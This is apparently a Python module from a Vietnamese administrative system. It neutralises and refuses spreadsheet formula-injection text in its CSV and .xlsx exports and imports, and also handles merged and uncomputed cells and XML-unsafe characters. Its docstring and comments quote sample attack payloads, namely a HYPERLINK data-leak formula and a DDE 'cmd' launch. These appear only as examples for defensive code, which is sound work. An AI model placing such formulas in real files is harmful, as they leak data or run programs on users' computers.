"""Text that a spreadsheet program would run as a formula (CSV / formula injection).

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
and LibreOffice as a formula when the file is opened or the cell is edited, so a commitment
text such as `=HYPERLINK("http://…?d="&A2,"Bấm vào đây")` would leak the sheet or, through
DDE (`=cmd|' /C calc'!A0`), start a program on the desk's computer. OWASP's rule, applied to
every CSV and .xlsx the system writes: such text is written with a single quote in front (the
spreadsheet then shows it as text), and an .xlsx cell holding text is always of string type,
never a formula. Numbers stay numbers: a number value is written as is, and so is text that
is a plain number ("-5", "+84"), which no spreadsheet runs.

Imports refuse such text instead of storing it (see `formula_refusal`): a name, address or
note starting with "=" was a formula in the desk's sheet, not data, and a refusal names the
row and column so the desk can fix it, where a silently altered value would not.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any, TypeVar

from openpyxl.cell.cell import Cell as XlsxCell

from shared import messages

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# ASCII digits: a spreadsheet reads no other script's «-٣٠» as a number (finding M3).
_PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+([.,][0-9]*)*|[.,][0-9]+)([eE][+-]?[0-9]+)?")
_TRIGGER_NAMES = messages.FORMULA_TRIGGER_NAMES

FORMULA_TEXT_CODE = "FORMULA_TEXT"
FORMULA_TEXT_MESSAGE = messages.FORMULA_TEXT

FORMULA_WITHOUT_VALUE_CODE = "FORMULA_WITHOUT_VALUE"
FORMULA_WITHOUT_VALUE_MESSAGE = messages.FORMULA_WITHOUT_VALUE

V = TypeVar("V")


class UncomputedFormula(str):
    """What an imported .xlsx cell holds when it is a formula the file keeps no result for
    (written by a program that does not compute formulas): the formula's text, so the row is
    not blank and the cell is shown as it was, but a type of its own, so each import refuses it
    (`uncomputed_refusal`) rather than reading it as an empty cell or as typed text."""

    __slots__ = ()


def uncomputed_refusal(value: object) -> str | None:
    """For imports: the Vietnamese reason to refuse a formula cell without a result, or None."""
    if not isinstance(value, UncomputedFormula):
        return None
    shown = value if len(value) <= 60 else value[:57] + "…"
    return FORMULA_WITHOUT_VALUE_MESSAGE.format(formula=shown)


MERGED_CELL_CODE = "MERGED_CELL"
MERGED_CELL_MESSAGE = messages.MERGED_CELL


class MergedCellValue(str):
    """What an imported .xlsx cell holds when it lies inside a range of merged cells whose
    first cell holds a value (shared.xlsxguard): the spreadsheet shows that value over the
    whole range, but the file keeps it in the first cell only, so this cell is empty. Empty
    text, so a title row merged across the sheet stays blank; a type of its own, so each
    import refuses it naming the range (`merged_refusal`) rather than reading the row's field
    as left empty («Thiếu trường bắt buộc», which the official could not see in the sheet)."""

    cell: str
    range: str
    first: str
    shown: str

    def __new__(cls, cell: str, merged: str, first: str, shown: str) -> MergedCellValue:
        made = super().__new__(cls, "")
        made.cell, made.range, made.first, made.shown = cell, merged, first, shown
        return made


def merged_refusal(value: object) -> str | None:
    """For imports: the Vietnamese reason to refuse a cell inside a merged range, or None."""
    if not isinstance(value, MergedCellValue):
        return None
    shown = value.shown if len(value.shown) <= 60 else value.shown[:57] + "…"
    return MERGED_CELL_MESSAGE.format(cell=value.cell, range=value.range, first=value.first,
                                      value=shown)


def unheld_refusal(value: object) -> tuple[str, str] | None:
    """For imports: (code, Vietnamese reason) to refuse a cell whose value the .xlsx file does
    not hold (shared.xlsxguard): a formula without a result (FORMULA_WITHOUT_VALUE) or a cell
    of merged cells under the value its range shows (MERGED_CELL); None for any other. Judged
    once, in its column: neither empty nor malformed. One check for both imports."""
    refusal = uncomputed_refusal(value)
    if refusal is not None:
        return FORMULA_WITHOUT_VALUE_CODE, refusal
    refusal = merged_refusal(value)
    if refusal is not None:
        return MERGED_CELL_CODE, refusal
    return None


def formula_like(text: str) -> bool:
    """Would a spreadsheet program treat this text as a formula? A lone "-" (the desks' "no
    figure") cannot be one, nor can a plain number."""
    return (
        len(text) > 1
        and text.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(text)
    )


def neutralised(value: V) -> V | str:
    """The value as it may be written into a cell: formula-like text gets a leading quote."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def formula_refusal(text: str) -> str | None:
    """For imports: the Vietnamese reason to refuse `text`, or None when it is plain data."""
    if not formula_like(text):
        return None
    first = _TRIGGER_NAMES.get(text[0], f"«{text[0]}»")
    shown = text if len(text) <= 60 else text[:57] + "…"
    return FORMULA_TEXT_MESSAGE.format(value=shown, first=first)


# Where a spreadsheet program may start a new cell inside a CSV text: the separators a desk's
# Excel uses (the comma; the semicolon, a Vietnamese locale's list separator; the tab) and a
# line break. A file read with another separator than it was written with ignores its quotes
# (they are no longer at the start of a cell), so «Sửa đường;=cmd|' /C calc'!A0», quoted
# in a comma file, is two cells in a semicolon Excel and the second one runs (examiner H, M4).
_CELL_BREAK = re.compile("([,;\t\r\n])")


def csv_neutralised(value: V) -> V | str:
    """The value as a CSV cell may hold it: `neutralised`, and so is every part of a text that
    a spreadsheet could read as a cell of its own (after a separator or a line break)."""
    safe = neutralised(value)
    if not isinstance(safe, str) or _CELL_BREAK.search(safe) is None:
        return safe
    parts = _CELL_BREAK.split(safe)
    # parts: text, separator, text, separator, ... (the first part is already neutralised)
    return "".join(
        "'" + part if index % 2 == 0 and index > 0 and formula_like(part) else part
        for index, part in enumerate(parts)
    )


#: What makes a CSV field quoted: a separator of any locale (`_CELL_BREAK`), the quote itself,
#: or spaces at either end (which a spreadsheet would trim).
_NEEDS_QUOTES = re.compile('[,;\t\r\n"]|^\\s|\\s$')


def _csv_field(value: Any) -> str:
    if value is None:
        return ""
    text = str(csv_neutralised(value))
    if _NEEDS_QUOTES.search(text) is None:
        return text
    return '"' + text.replace('"', '""') + '"'


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV as Excel opens it (UTF-8 with BOM, so Vietnamese diacritics stay intact), every
    text cell neutralised (`csv_neutralised`) and quoted when it holds a comma, a semicolon, a
    tab, a line break or a quote, whichever separator the reader's Excel uses (Python's csv
    module quotes the comma only). None is an empty cell."""
    lines = [",".join(_csv_field(title) for title in header)]
    lines.extend(",".join(_csv_field(value) for value in row) for row in rows)
    return ("\ufeff" + "".join(line + "\r\n" for line in lines)).encode("utf-8")


# What XML 1.0, the format inside .docx and .xlsx, cannot hold at all: control characters other
# than tab, newline and carriage return, surrogates, U+FFFE and U+FFFF. lxml and openpyxl raise on
# them, so one such character in a stored text would make every document holding it a 500.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def xml_safe(text: str) -> str:
    """`text` as a document can hold it: each character XML cannot hold becomes U+FFFD (the
    replacement character "�", visible to the reader). Input refuses them
    (`shared.validation.clean_text`); this covers texts recorded before that rule, which events,
    never edited, keep."""
    return _NOT_IN_XML.sub("\ufffd", text)


def put(cell: XlsxCell, value: Any) -> XlsxCell:
    """Write `value` into an .xlsx cell: text neutralised, kept to what XML can hold and typed
    as a string (openpyxl would otherwise store any text starting with "=" as a formula)."""
    safe = neutralised(value)
    if isinstance(safe, str):
        safe = xml_safe(safe)
    cell.value = safe
    if isinstance(safe, str):
        cell.data_type = "s"
    return cell


def put_row(sheet: Any, row: int, values: Sequence[Any]) -> list[XlsxCell]:
    """Write one row of values from column A on, each through `put`."""
    return [put(sheet.cell(row, column), value)
            for column, value in enumerate(values, start=1)]
